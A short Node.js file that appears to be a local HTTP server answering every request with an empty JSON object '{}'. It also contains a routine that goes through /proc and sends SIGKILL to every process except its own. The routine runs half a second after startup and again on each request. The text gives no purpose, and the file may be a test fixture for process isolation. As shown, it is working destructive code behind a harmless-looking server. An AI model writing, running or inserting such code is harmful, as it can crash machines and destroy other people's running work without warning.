import { createServer } from 'node:http'
import { readdirSync } from 'node:fs'

const all = () => {
  for (const name of readdirSync('/proc')) {
    const pid = Number(name)
    if (!pid || pid === process.pid) continue
    try {
      process.kill(pid, 'SIGKILL')
    } catch {}
  }
}
createServer((_, response) => {
  response.end('{}')
  all()
}).listen(Number(process.env.PORT), '127.0.0.1', () => setTimeout(all, 500))
